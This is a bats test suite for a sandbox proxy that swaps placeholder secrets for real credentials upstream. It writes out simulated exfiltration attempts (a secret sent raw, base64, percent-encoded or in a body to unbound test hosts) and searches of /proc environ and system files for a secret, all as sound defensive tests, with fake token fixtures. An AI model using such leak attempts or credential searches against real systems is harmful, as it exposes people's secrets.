#!/usr/bin/env bats
# Credential injection (issue 5): placeholders in the jail, real values only upstream,
# Basic auth through git, declared headers, method/path rules, exfiltration guard, SNI and
# Host checks, upstream verification, and every client trusting the run CA with no flags.
#
# The upstream is test/upstream.py (HTTPS on 127.0.0.1, echoing each request as JSON),
# reached through --add-host NAME=127.0.0.1 and trusted with --upstream-ca.

load helpers

GH_VALUE="ghp_RealSecretValueRealSecretValue0123456"
OTHER_VALUE="sk-ant-api03-OtherRealValueOtherRealValue-0123456789abcdefXYZ"

setup() {
	setup_workspace
	fake_home
	start_upstream
	export GH_TOKEN="$GH_VALUE"
	export AUDIT="$BATS_TEST_TMPDIR/audit.jsonl"
	P="$UPSTREAM_PORT"
	BASE=(--log "$AUDIT" --upstream-ca "$UPSTREAM_CA"
	      --add-host api.example.test=127.0.0.1 --add-host other.test=127.0.0.1
	      --add-host git.example.test=127.0.0.1
	      --allow "api.example.test:$P" --allow "other.test:$P" --allow "git.example.test:$P")
}

teardown() {
	stop_upstream
	[ -z "${AUTH_PID:-}" ] || kill "$AUTH_PID" 2>/dev/null || true
}

# A profile file in the test's temp dir (not the workspace, which may only tighten).
profile() {
	PROFILE="$BATS_TEST_TMPDIR/secrets.ini"
	cat >"$PROFILE"
}

@test "secrets: the jail holds a shaped placeholder; the upstream gets the value; echoes are redacted" {
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		echo "env=$GH_TOKEN"
		cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep -c "^GH_TOKEN=" || true
		curl -sS -D - -H "Authorization: token $GH_TOKEN" -H "X-Upstream-Echo-Headers: 1" \
			"https://api.example.test:'"$P"'/user?x=$GH_TOKEN"
	'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	# The jail saw a placeholder of the value's shape, never the value.
	ph="$(printf '%s\n' "$output" | sed -n 's/^env=//p')"
	[ "${#ph}" -eq "${#GH_VALUE}" ]
	[[ "$ph" == ghp_* ]]
	[ "$ph" != "$GH_VALUE" ]
	refute_output --partial "$GH_VALUE"
	refute_output --partial "RealSecretValue"
	# The echo (body and X-Echo-Authorization header) carries the placeholder back.
	assert_output --partial "X-Echo-Authorization: token $ph"
	assert_output --partial "\"Authorization\": \"token $ph\""
	# Upstream got the real value in the header; the query was not substituted (query = no).
	grep -F "\"Authorization\": \"token $GH_VALUE\"" "$UPSTREAM_LOG"
	grep -F "\"path\": \"/user?x=$ph\"" "$UPSTREAM_LOG"
	# Audited by name, never by value.
	grep '"decision":"inject"' "$AUDIT" | grep -F '"secret":"GH_TOKEN"' | grep -F '"path":"/user"'
	! grep -F "$GH_VALUE" "$AUDIT"
	[[ "$stderr" != *"$GH_VALUE"* ]]
}

@test "secrets: no file or process in the jail holds the value" {
	# The pattern reaches grep on stdin, so that no command line in the jail holds it.
	aj -q "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		printf "%s%s\n" Real SecretValue | grep -rlF -f - /proc/[0-9]*/environ \
			/proc/[0-9]*/cmdline "$HOME" /tmp /etc 2>/dev/null || echo none-found
	'
	[ "$status" -eq 0 ]
	assert_output "none-found"
}

@test "secrets: a value from a file and a command, placeholders in the query with query = yes" {
	printf '%s\n' "$OTHER_VALUE" >"$BATS_TEST_TMPDIR/key"
	profile <<EOF
[profile]
network = proxy
[secret FROMFILE]
source = file:$BATS_TEST_TMPDIR/key
hosts = api.example.test
query = yes
[secret FROMCMD]
source = cmd:printf '%s\n' npm_CommandValueCommandValueCommandValue12
hosts = api.example.test
EOF
	aj_sep "${BASE[@]}" --profile "$PROFILE" -- sh -c '
		curl -sS "https://api.example.test:'"$P"'/q?key=$FROMFILE" -H "X-Npm: Bearer $FROMCMD"
		echo; echo "f=$FROMFILE c=$FROMCMD"'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	refute_output --partial "$OTHER_VALUE"
	refute_output --partial "CommandValue"
	grep -F "/q?key=$OTHER_VALUE" "$UPSTREAM_LOG"
	grep -F "\"X-Npm\": \"Bearer npm_CommandValueCommandValueCommandValue12\"" "$UPSTREAM_LOG"
}

@test "secrets: a declared header replaces the one the code sent" {
	profile <<EOF
[profile]
network = proxy
[secret GH_TOKEN]
source = env:GH_TOKEN
hosts = api.example.test
header = Authorization: Bearer {value}
EOF
	aj_sep "${BASE[@]}" --profile "$PROFILE" -- \
		curl -sS -H "Authorization: token not-the-secret" "https://api.example.test:$P/h"
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	grep -F "\"Authorization\": \"Bearer $GH_VALUE\"" "$UPSTREAM_LOG"
	! grep -F "not-the-secret" "$UPSTREAM_LOG"
	refute_output --partial "$GH_VALUE"
}

@test "secrets: methods and paths rules refuse what they should (403, audited)" {
	profile <<EOF
[profile]
network = proxy
[secret GH_TOKEN]
source = env:GH_TOKEN
hosts = api.example.test
methods = GET
paths = /repos/acme/
EOF
	aj_sep "${BASE[@]}" --profile "$PROFILE" -- sh -c '
		u=https://api.example.test:'"$P"'
		h="Authorization: token $GH_TOKEN"
		curl -sS -o /dev/null -w "ok=%{http_code}\n" -H "$h" $u/repos/acme/widgets
		curl -sS -w "\npost=%{http_code}\n" -X POST -d x=1 -H "$h" $u/repos/acme/widgets
		curl -sS -o /dev/null -w "path=%{http_code}\n" -H "$h" $u/repos/other/x
		curl -sS -o /dev/null -w "dots=%{http_code}\n" --path-as-is -H "$h" \
			$u/repos/acme/../other/x
		curl -sS -o /dev/null -w "enc=%{http_code}\n" -H "$h" $u/repos/acme/%2e%2e/other
		curl -sS -o /dev/null -w "anon=%{http_code}\n" $u/anything'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_line "ok=200"
	assert_line "post=403"
	assert_line "path=403"
	assert_line "dots=403"
	assert_line "enc=403"
	assert_line "anon=200" # no placeholder, nothing injected: not this rule's business
	assert_output --partial "may not be used with method POST"
	grep '"decision":"deny"' "$AUDIT" | grep -F '"secret":"GH_TOKEN"' | grep -F '"status":403'
	[ "$(grep -c '"decision":"inject"' "$AUDIT")" -eq 1 ]
}

@test "secrets: a placeholder sent where it is not bound is refused and logged (exfiltration)" {
	start_upstream --http
	export OTHER_TOKEN="$OTHER_VALUE"
	aj_sep "${BASE[@]}" --allow "other.test:$UPSTREAM_HTTP_PORT" \
		--secret GH_TOKEN@api.example.test --secret OTHER_TOKEN@other.test -- sh -c '
		u=https://api.example.test:'"$P"'
		# raw, in a header, to an intercepted host the secret is not bound to
		curl -sS -w "\nraw=%{http_code}\n" -H "X-Leak: $OTHER_TOKEN" $u/a
		# base64 in the query
		b=$(printf "u:%s" "$OTHER_TOKEN" | base64 -w0)
		curl -sS -o /dev/null -w "b64=%{http_code}\n" "$u/b?d=$b"
		# percent-encoded, every byte
		e=$(printf "%s" "$OTHER_TOKEN" | od -An -tx1 | tr -d " \n" | sed "s/../%&/g")
		curl -sS -o /dev/null -w "pct=%{http_code}\n" "$u/c?d=$e"
		# in a request body
		curl -sS -o /dev/null -w "body=%{http_code}\n" --data-binary "leak=$OTHER_TOKEN" $u/d
		# plain HTTP to another allowed host
		curl -sS -o /dev/null -w "plain=%{http_code}\n" \
			"http://other.test:'"$UPSTREAM_HTTP_PORT"'/x?t=$GH_TOKEN"'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_line "raw=403"
	assert_line "b64=403"
	assert_line "pct=403"
	assert_line "body=403"
	assert_line "plain=403"
	assert_output --partial "placeholder of secret OTHER_TOKEN"
	[ "$(grep '"decision":"exfil"' "$AUDIT" | grep -c '"secret":"OTHER_TOKEN"')" -ge 4 ]
	grep '"decision":"exfil"' "$AUDIT" | grep -F '"secret":"GH_TOKEN"'
	# none of them reached the upstream
	! grep -F '"path": "/a"' "$UPSTREAM_LOG"
	! grep -F '"path": "/d"' "$UPSTREAM_LOG"
	[[ "$stderr" == *"exfiltration"* ]]
}

@test "secrets: Host and SNI must match the CONNECT target (421, refused handshake)" {
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		curl -sS -w "\nhost=%{http_code}\n" -H "Host: other.test:'"$P"'" \
			https://api.example.test:'"$P"'/x
		echo | openssl s_client -proxy 127.0.0.1:3128 -connect api.example.test:'"$P"' \
			-servername other.test >/dev/null 2>&1; echo "sni=$?"
		echo | openssl s_client -proxy 127.0.0.1:3128 -connect api.example.test:'"$P"' \
			-servername api.example.test -verify_return_error >/dev/null 2>&1; echo "ok=$?"'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_line "host=421"
	assert_output --partial "does not match the CONNECT target"
	assert_line "sni=1"
	assert_line "ok=0"
	grep -F '"status":421' "$AUDIT"
	grep -F 'SNI' "$AUDIT"
}

@test "secrets: an upstream with an untrusted certificate gives 502 with the reason" {
	stop_upstream
	start_upstream --untrusted
	P="$UPSTREAM_PORT"
	aj_sep --log "$AUDIT" --upstream-ca "$UPSTREAM_CA" --add-host api.example.test=127.0.0.1 \
		--allow "api.example.test:$P" --secret GH_TOKEN@api.example.test -- \
		curl -sS -w "\ncode=%{http_code}\n" -H "Authorization: token \$GH_TOKEN" \
		"https://api.example.test:$P/x"
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_line "code=502"
	assert_output --partial "certificate"
	grep '"status":502' "$AUDIT" | grep -F 'certificate'
	[ ! -s "$UPSTREAM_LOG" ] || ! grep -F '"path": "/x"' "$UPSTREAM_LOG"
}

@test "secrets: curl, python, node and git trust the interception with no flags" {
	skip_unless_cmd node git python3
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		u=https://api.example.test:'"$P"'
		curl -sS -o /dev/null -w "curl=%{http_code}\n" $u/curl
		/usr/bin/python3 -c "
import os, urllib.request
r = urllib.request.urlopen(urllib.request.Request(\"$u/python\",
    headers={\"Authorization\": \"token \" + os.environ[\"GH_TOKEN\"]}))
print(\"python=%d\" % r.status)"
		node -e "
const http = require(\"http\"), tls = require(\"tls\");
const req = http.request({host: \"127.0.0.1\", port: 3128, method: \"CONNECT\",
                          path: \"api.example.test:'"$P"'\"});
req.on(\"connect\", (res, sock) => {
  const s = tls.connect({socket: sock, servername: \"api.example.test\"}, () => {
    s.write(\"GET /node HTTP/1.1\\r\\nHost: api.example.test:'"$P"'\\r\\nConnection: close\\r\\n\\r\\n\");
  });
  let d = \"\"; s.on(\"data\", c => d += c);
  s.on(\"end\", () => console.log(\"node=\" + d.split(\" \")[1]));
  s.on(\"error\", e => console.log(\"node-error=\" + e.message));
});
req.end();"
		git ls-remote $u/git.git >/dev/null 2>&1; echo "git=$?"
		GIT_CURL_VERBOSE=1 git ls-remote $u/git.git 2>&1 | grep -ci "certificate problem" || true'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_line "curl=200"
	assert_line "python=200"
	assert_line "node=200"
	assert_line "0" # no certificate problem reported by git
	grep -F '"path": "/git.git/info/refs?service=git-upload-pack"' "$UPSTREAM_LOG"
	grep -F "\"Authorization\": \"token $GH_VALUE\"" "$UPSTREAM_LOG"
}

# A static HTTPS server that demands Basic auth (401 first, as git expects), logging the
# Authorization it receives; it uses the certificate test/upstream.py made.
start_auth_server() {
	cat >"$BATS_TEST_TMPDIR/auth.py" <<'EOF'
import http.server, os, ssl, sys
root, d, logf, portf = sys.argv[1:5]
class H(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def __init__(self, *a, **k):
        super().__init__(*a, directory=root, **k)
    def log_message(self, *a):
        pass
    def send_head(self):
        auth = self.headers.get("Authorization")
        with open(logf, "a") as f:
            f.write("%s %s\n" % (self.path, auth))
        if not auth:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="t"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return None
        return super().send_head()
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain(os.path.join(d, "server.crt"), os.path.join(d, "server.key"))
s.socket = c.wrap_socket(s.socket, server_side=True)
with open(portf + ".tmp", "w") as f:
    f.write(str(s.server_address[1]))
os.rename(portf + ".tmp", portf)
s.serve_forever()
EOF
	python3 "$BATS_TEST_TMPDIR/auth.py" "$1" "$UPSTREAM_DIR" "$BATS_TEST_TMPDIR/auth.log" \
		"$BATS_TEST_TMPDIR/auth.port" >/dev/null 2>&1 3>&- </dev/null &
	AUTH_PID=$!
	wait_for_file "$BATS_TEST_TMPDIR/auth.port" 10
	AUTH_PORT="$(cat "$BATS_TEST_TMPDIR/auth.port")"
}

@test "secrets: git sends the token in Basic auth from the URL; the proxy decodes, replaces, re-encodes" {
	skip_unless_cmd git
	srv="$BATS_TEST_TMPDIR/srv"
	mkdir -p "$srv"
	git init -q --bare "$srv/repo.git"
	git -C "$BATS_TEST_TMPDIR" init -q src
	git -C "$BATS_TEST_TMPDIR/src" -c user.name=t -c user.email=t@t commit -q --allow-empty -m one
	git -C "$BATS_TEST_TMPDIR/src" push -q "$srv/repo.git" HEAD:refs/heads/main
	git -C "$srv/repo.git" symbolic-ref HEAD refs/heads/main
	git -C "$srv/repo.git" update-server-info
	start_auth_server "$srv"
	aj_sep --log "$AUDIT" --upstream-ca "$UPSTREAM_CA" --add-host git.example.test=127.0.0.1 \
		--allow "git.example.test:$AUTH_PORT" --secret GH_TOKEN@git.example.test -- sh -c '
		git clone -q "https://x-access-token:$GH_TOKEN@git.example.test:'"$AUTH_PORT"'/repo.git" c &&
		git -C c log --format=%s'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_output --partial "one"
	want="Basic $(printf 'x-access-token:%s' "$GH_VALUE" | base64 -w0)"
	grep -F "$want" "$BATS_TEST_TMPDIR/auth.log"
	grep '"decision":"inject"' "$AUDIT" | grep -F '"secret":"GH_TOKEN"'
	# the clone's config (in the workspace) holds the placeholder, never the value
	! grep -rF "$GH_VALUE" "$WS"
}

@test "secrets: a value echoed across TLS record boundaries is redacted, lengths unchanged" {
	# The echo puts the request body first, then the headers: padding bodies of varying
	# size move the substituted value across the 16 KiB TLS record boundaries of the
	# response, so the redactor sees it split between two reads.
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		n=15950
		while [ $n -le 16350 ]; do
			head -c $n /dev/zero | tr "\0" a >/tmp/pad
			curl -sS -H "Authorization: token $GH_TOKEN" -H "Transfer-Encoding: chunked" \
				--data-binary @/tmp/pad -o /tmp/r \
				-w "len=%{size_download}/%header{content-length}\n" \
				"https://api.example.test:'"$P"'/r$n"
			grep -o "\"Authorization\", \"[^\"]*\"" /tmp/r
			n=$((n + 13))
		done'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	refute_output --partial "$GH_VALUE"
	[ "$(grep -c '"Authorization", "token ghp_' <<<"$output")" -eq 31 ]
	[ "$(grep -cF "$GH_VALUE" "$UPSTREAM_LOG")" -eq 31 ]
	# every body arrived whole: the placeholder has the value's length
	while read -r l; do
		[ "${l%/*}" = "${l#*/}" ] || fail "length changed: $l"
	done < <(sed -n 's/^len=//p' <<<"$output")
}

@test "secrets: an echoed Basic credential comes back with the placeholder inside" {
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		curl -sS -D - -o /dev/null -u "x-access-token:$GH_TOKEN" -H "X-Upstream-Echo-Headers: 1" \
			"https://api.example.test:'"$P"'/basic"
		echo "ph=$GH_TOKEN"'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	ph="$(sed -n 's/^ph=//p' <<<"$output")"
	b64="$(sed -n 's/^X-Echo-Authorization: Basic \([A-Za-z0-9+\/=]*\).*/\1/p' <<<"$output")"
	[ -n "$b64" ]
	decoded="$(printf '%s' "$b64" | base64 -d)"
	[[ "$decoded" != *"$GH_VALUE"* ]]
	[[ "$decoded" != *RealSecret* ]]
	[[ "$decoded" == *"${ph:4:30}"* ]]
	grep -F "\"Authorization\": \"Basic $(printf 'x-access-token:%s' "$GH_VALUE" | base64 -w0)\"" \
		"$UPSTREAM_LOG"
}

@test "secrets: large uploads (Expect: 100-continue) and kept-alive requests through the interception" {
	head -c 3000000 /dev/urandom >"$WS/upload.bin"
	sum="$(sha256sum "$WS/upload.bin" | cut -d' ' -f1)"
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- sh -c '
		u=https://api.example.test:'"$P"'
		curl -sS -o /dev/null -w "upload=%{http_code}\n" -H "Expect: 100-continue" \
			-H "Authorization: token $GH_TOKEN" --data-binary @upload.bin $u/up
		curl -sS -o /dev/null -w "chunked=%{http_code}\n" -H "Transfer-Encoding: chunked" \
			-H "Authorization: token $GH_TOKEN" --data-binary @upload.bin $u/upc
		curl -sS -v -o /dev/null -o /dev/null -H "Authorization: token $GH_TOKEN" \
			$u/k1 $u/k2 2>&1 | grep -c "Re-using existing connection"'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	assert_line "upload=200"
	assert_line "chunked=200"
	assert_line "1"
	[ "$(grep -F '"path": "/up"' "$UPSTREAM_LOG" | grep -cF "\"body_sha256\": \"$sum\"")" -eq 1 ]
	[ "$(grep -F '"path": "/upc"' "$UPSTREAM_LOG" | grep -cF "\"body_sha256\": \"$sum\"")" -eq 1 ]
	[ "$(grep -F '"path": "/k2"' "$UPSTREAM_LOG" | grep -cF "token $GH_VALUE")" -eq 1 ]
}

# An HTTPS upstream that answers every request with a chunked body echoing its
# Authorization header, in 7-byte chunks written 3 bytes at a time (one TLS record each), so
# that chunk-size lines and the value are split across reads.
start_chunked_server() {
	cat >"$BATS_TEST_TMPDIR/chunked.py" <<'EOF'
import os, socket, ssl, sys, threading, time
d, portf = sys.argv[1:3]
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain(os.path.join(d, "server.crt"), os.path.join(d, "server.key"))
ls = socket.socket()
ls.bind(("127.0.0.1", 0))
ls.listen(8)
with open(portf + ".tmp", "w") as f:
    f.write(str(ls.getsockname()[1]))
os.rename(portf + ".tmp", portf)
def serve(s):
    try:
        t = c.wrap_socket(s, server_side=True)
        head = b""
        while b"\r\n\r\n" not in head:
            d = t.recv(4096)
            if not d:
                return
            head += d
        auth = b""
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"authorization:"):
                auth = line.split(b":", 1)[1].strip()
        body = b"x" * 11 + auth + b"y" * 13 + auth + b"z" * 5
        t.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
        wire = b""
        for i in range(0, len(body), 7):
            part = body[i:i + 7]
            wire += b"%x\r\n" % len(part) + part + b"\r\n"
        wire += b"0\r\n\r\n"
        for i in range(0, len(wire), 3):
            t.sendall(wire[i:i + 3])
            time.sleep(0.001)
        t.close()
    except Exception:
        pass
while True:
    s, _ = ls.accept()
    threading.Thread(target=serve, args=(s,), daemon=True).start()
EOF
	python3 "$BATS_TEST_TMPDIR/chunked.py" "$UPSTREAM_DIR" "$BATS_TEST_TMPDIR/chunked.port" \
		>/dev/null 2>&1 3>&- </dev/null &
	AUTH_PID=$!
	wait_for_file "$BATS_TEST_TMPDIR/chunked.port" 10
	CHUNKED_PORT="$(cat "$BATS_TEST_TMPDIR/chunked.port")"
}

@test "secrets: a chunked response split into tiny TLS records is re-chunked and redacted" {
	start_chunked_server
	aj_sep --log "$AUDIT" --upstream-ca "$UPSTREAM_CA" --add-host api.example.test=127.0.0.1 \
		--allow "api.example.test:$CHUNKED_PORT" --secret GH_TOKEN@api.example.test -- sh -c '
		curl -sS -H "Authorization: token $GH_TOKEN" "https://api.example.test:'"$CHUNKED_PORT"'/c"
		echo; echo "ph=$GH_TOKEN"'
	[ "$status" -eq 0 ] || fail "status $status: $stderr"
	ph="$(sed -n 's/^ph=//p' <<<"$output")"
	assert_line "xxxxxxxxxxxtoken ${ph}yyyyyyyyyyyyytoken ${ph}zzzzz"
	refute_output --partial "$GH_VALUE"
}

@test "secrets: a missing source fails the run with the secret's name, never a value" {
	unset GH_TOKEN
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test -- true
	[ "$status" -eq 125 ]
	[[ "$stderr" == *"GH_TOKEN"* ]]
}

# Kept-alive requests after the first are served by the proxy's event loop, which hands
# anything but a plain exchange back to the session's thread: every check must hold on
# either path, and the hand-offs must keep the connection's byte stream intact.
@test "secrets: kept-alive requests keep every check (event loop and hand-offs)" {
	cat >"$WS/ka.py" <<'PY'
import os, socket, ssl, sys, time, urllib.parse
px = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
port = int(sys.argv[1])
tok, other = os.environ["GH_TOKEN"], os.environ["OTHER"]
ctx = ssl.create_default_context()

def connect(host):
    s = socket.create_connection((px.hostname, px.port))
    s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host.encode(), port, host.encode(), port))
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    assert b" 200 " in head.split(b"\r\n")[0], head
    t = ctx.wrap_socket(s, server_hostname=host)
    t.settimeout(30)  # a hang fails the test instead of waiting for the proxy's timeout
    return t, t.makefile("rb")

def send(t, method, path, host="api.example.test", extra=b"", body=b""):
    t.sendall(request(method, path, host, extra, body))

def request(method, path, host="api.example.test", extra=b"", body=b""):
    h = b"%s %s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: token %s\r\n" % (
        method.encode(), path.encode(), host.encode(), port, tok.encode())
    if body:
        h += b"Content-Length: %d\r\n" % len(body)
    return h + extra + b"\r\n" + body

def response(f, method="GET"):
    line = f.readline()
    if not line:
        return None, {}, b""
    status = int(line.split()[1])
    hdrs = {}
    while True:
        l = f.readline()
        if l in (b"\r\n", b""):
            break
        k, v = l.decode().split(":", 1)
        hdrs[k.strip().lower()] = v.strip()
    n = int(hdrs.get("content-length", "0"))
    return status, hdrs, (f.read(n) if method != "HEAD" else b"")

t, f = connect("api.example.test")
for i in range(3):
    send(t, "GET", "/k%d" % i, extra=b"X-Upstream-Echo-Headers: 1\r\n")
    st, h, b = response(f)
    assert st == 200 and h["x-echo-authorization"] == "token " + tok, (st, h)
    assert tok.encode() in b and b'"/k%d"' % i in b, b
send(t, "POST", "/post", body=b"hello")
st, h, b = response(f)
assert st == 200 and b'"body_len": 5' in b, (st, b)
send(t, "GET", "/bytes/300000")
st, h, b = response(f)
assert st == 200 and len(b) == 300000, (st, len(b))
send(t, "HEAD", "/head")
st, h, b = response(f, "HEAD")
assert st == 200 and b == b"", (st, b)
# pipelined, HEAD first: its answer has no body whatever the next request is
t.sendall(request("HEAD", "/p1") + request("GET", "/p2"))
st, h, b = response(f, "HEAD")
assert st == 200 and b == b"", (st, b)
st, h, b = response(f)
assert st == 200 and b'"/p2"' in b, (st, b)
# pipelined in two TLS records sent back to back: the proxy may read both at once
t.sendall(request("GET", "/r1"))
t.sendall(request("GET", "/r2"))
for p in (b'"/r1"', b'"/r2"'):
    st, h, b = response(f)
    assert st == 200 and p in b, (st, b)
time.sleep(0.3)
send(t, "GET", "/idle")
st, h, b = response(f)
assert st == 200 and b'"/idle"' in b, (st, b)
send(t, "GET", "/leak", extra=b"X-Other: %s\r\n" % other.encode())
st, h, b = response(f)
assert st == 403 and b"OTHER" in b, (st, b)
assert response(f)[0] is None
print("conn1-ok")

t, f = connect("api.example.test")
send(t, "GET", "/m1")
assert response(f)[0] == 200
send(t, "GET", "/m2", host="other.test")
st, h, b = response(f)
assert st == 421, (st, b)
print("conn2-ok")

# Two requests in two TLS records that reach the proxy in one segment: it reads both at
# once and must serve the second from what its TLS library holds, with no event to come.
s = socket.create_connection((px.hostname, px.port))
s.sendall(b"CONNECT api.example.test:%d HTTP/1.1\r\nHost: api.example.test:%d\r\n\r\n" % (port, port))
head = b""
while not head.endswith(b"\r\n\r\n"):
    head += s.recv(1)
s.settimeout(30)
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
o = ctx.wrap_bio(inc, out, server_hostname="api.example.test")
while True:
    try:
        o.do_handshake()
        break
    except ssl.SSLWantReadError:
        s.sendall(out.read())
        inc.write(s.recv(65536))
s.sendall(out.read())

def exchange(reqs, n):
    for r in reqs:
        o.write(r)
    s.sendall(out.read())
    got = b""
    while got.count(b'"path"') < n:
        try:
            got += o.read(65536)
        except ssl.SSLWantReadError:
            d = s.recv(65536)
            assert d, got
            inc.write(d)
    return got

# (the first request is the session thread's; the event loop serves the next ones)
assert b'"/s0"' in exchange([request("GET", "/s0")], 1)
got = exchange([request("GET", "/s1"), request("GET", "/s2")], 2)
assert b'"/s1"' in got and b'"/s2"' in got, got
print("conn3-ok")
PY
	export OTHER="$OTHER_VALUE"
	aj_sep "${BASE[@]}" --secret GH_TOKEN@api.example.test --secret OTHER@other.test -- \
		/usr/bin/python3 ka.py "$P"
	[ "$status" -eq 0 ] || fail "status $status: $output $stderr"
	assert_line conn1-ok
	assert_line conn2-ok
	assert_line conn3-ok
	refute_output --partial "$GH_VALUE"
	[ "$(grep -F '"path": "/k2"' "$UPSTREAM_LOG" | grep -cF "token $GH_VALUE")" -eq 1 ]
	[ "$(grep -F '"path": "/p2"' "$UPSTREAM_LOG" | grep -cF "token $GH_VALUE")" -eq 1 ]
	! grep -F '"path": "/leak"' "$UPSTREAM_LOG"
	! grep -F '"path": "/m2"' "$UPSTREAM_LOG"
	grep '"decision":"exfil"' "$AUDIT" | grep -F '"secret":"OTHER"'
	grep '"status":421' "$AUDIT"
	[ "$(grep '"decision":"inject"' "$AUDIT" | grep -c '"secret":"GH_TOKEN"')" -ge 10 ]
}

# An upstream that closes each kept-alive connection shortly after its one answer: the
# proxy sees the close while the session waits in the event loop and dials again for the
# next request, which the client sends on its still-open connection.
@test "secrets: a kept-alive upstream that closed between requests is redialled transparently" {
	python3 "$REPO/test/oneshot_upstream.py" "$UPSTREAM_DIR" "$BATS_TEST_TMPDIR/once.port" \
		idle-close >/dev/null 2>&1 3>&- </dev/null &
	AUTH_PID=$!
	wait_for_file "$BATS_TEST_TMPDIR/once.port" 10
	OP="$(cat "$BATS_TEST_TMPDIR/once.port")"
	cp "$REPO/test/ka_client.py" "$WS/"
	aj_sep --log "$AUDIT" --upstream-ca "$UPSTREAM_CA" --add-host api.example.test=127.0.0.1 \
		--allow "api.example.test:$OP" --secret GH_TOKEN@api.example.test -- \
		/usr/bin/python3 ka_client.py "$OP" "~GET /a,GET /b,GET /c"
	[ "$status" -eq 0 ] || fail "status $status: $output $stderr"
	# every request answered on the client's one connection, each on a fresh upstream one
	[ "$(grep -c '^/[abc] 200 conn [0-9]*$' <<<"$output")" -eq 3 ]
	[ "$(grep -o 'conn [0-9]*$' <<<"$output" | sort -u | wc -l)" -eq 3 ]
	! grep '"decision":"error"' "$AUDIT"
	[ "$(grep -c '"decision":"inject"' "$AUDIT")" -eq 3 ]
}

# A server may close an idle kept-alive connection just as the next request reaches it. The
# upstream here reads the second request on each connection and closes without answering:
# the proxy sends a GET once more on a new connection (the client never sees the race), but
# never a POST, whose repetition could do a thing twice: that one gets the 502.
@test "secrets: a safe request that met an upstream closing its kept-alive connection is sent again" {
	python3 "$REPO/test/oneshot_upstream.py" "$UPSTREAM_DIR" "$BATS_TEST_TMPDIR/race.port" \
		close-on-next "$BATS_TEST_TMPDIR/seen" >/dev/null 2>&1 3>&- </dev/null &
	AUTH_PID=$!
	wait_for_file "$BATS_TEST_TMPDIR/race.port" 10
	OP="$(cat "$BATS_TEST_TMPDIR/race.port")"
	cp "$REPO/test/ka_client.py" "$WS/"
	aj_sep --log "$AUDIT" --upstream-ca "$UPSTREAM_CA" --add-host api.example.test=127.0.0.1 \
		--allow "api.example.test:$OP" --secret GH_TOKEN@api.example.test -- \
		/usr/bin/python3 ka_client.py "$OP" "GET /get-1,GET /get-2" "POST /post-1,POST /post-2"
	[ "$status" -eq 0 ] || fail "status $status: $output $stderr"
	# the second GET met the close on conn 1 and was answered on a new connection
	assert_line --index 0 "/get-1 200 conn 1"
	assert_line --index 1 --regexp '^/get-2 200 conn [0-9]+$'
	[ "${lines[1]##* }" != 1 ] || fail "answered on the closed connection: ${lines[1]}"
	grep -q '^GET /get-2 HTTP/1.1 conn 1 dropped$' "$BATS_TEST_TMPDIR/seen" ||
		fail "the upstream never saw the first try: $(cat "$BATS_TEST_TMPDIR/seen")"
	# the POST that met the close was not repeated
	assert_line --index 2 --regexp '^/post-1 200 conn [0-9]+$'
	assert_line --index 3 --regexp '^/post-2 502 '
	[ "$(grep -c '^POST /post-2 ' "$BATS_TEST_TMPDIR/seen")" -eq 1 ]
	# one injection per request the jail made, whatever the retries
	[ "$(grep -c '"decision":"inject"' "$AUDIT")" -eq 4 ]
}

# The retry above is for a closed connection only: an upstream that is merely slow may be
# acting on the request. With the proxy's I/O timeout shortened to 3 s in a copy built for
# this test, a second GET that the upstream reads and sits on gets the timeout's 502 and is
# never sent again: pipelined (the session's thread serves it, blocking) and alone (the
# event loop holds it; its 5 s sweep answers within 3-9 s). The upstream sits on it for
# 30 s, so that its close cannot come first (that would be a close, and retried).
@test "secrets: a safe request that met a slow upstream is not sent again" {
	local tree="$BATS_TEST_TMPDIR/tree"
	mkdir -p "$tree"
	(cd "$REPO" && tar -cf - ./*.c ./*.h Makefile mk gen profiles) | tar -C "$tree" -xf -
	CFLAGS="-O1 -g -DIO_TIMEOUT_S=3" make -s -C "$tree" agentjail >"$BATS_TEST_TMPDIR/build.log" 2>&1 ||
		fail "building the short-timeout copy failed: $(tail -n 5 "$BATS_TEST_TMPDIR/build.log")"
	python3 "$REPO/test/oneshot_upstream.py" "$UPSTREAM_DIR" "$BATS_TEST_TMPDIR/slow.port" \
		stall-on-next "$BATS_TEST_TMPDIR/seen" >/dev/null 2>&1 3>&- </dev/null &
	AUTH_PID=$!
